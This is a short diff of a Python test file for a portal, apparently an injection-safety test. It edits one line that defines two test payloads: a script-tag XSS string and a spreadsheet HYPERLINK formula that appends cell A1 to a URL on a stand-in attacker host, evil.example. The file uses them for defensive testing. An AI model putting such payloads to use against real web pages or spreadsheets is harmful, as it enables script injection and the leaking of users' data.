@@ -22,7 +22,7 @@ from tests.portal.served import COUNTY, DESK, PASSWORD, Served, logged_in, run, 
 
 pytestmark = [pytest.mark.long, pytest.mark.timeout(1200)]
 OTHER = f"registration_desk-{COUNTY}002"
-SCRIPT, FORMULA = "<script>document.title='stolen'</script>", '=HYPERLINK("http://evil.example/"&A1,"张")'
+SCRIPT, FORMULA = "<script>document['title']='stolen'</script>", '=HYPERLINK("http://evil.example/"&A1,"张")'
 
 
 def spoilt(folder: Path) -> None:
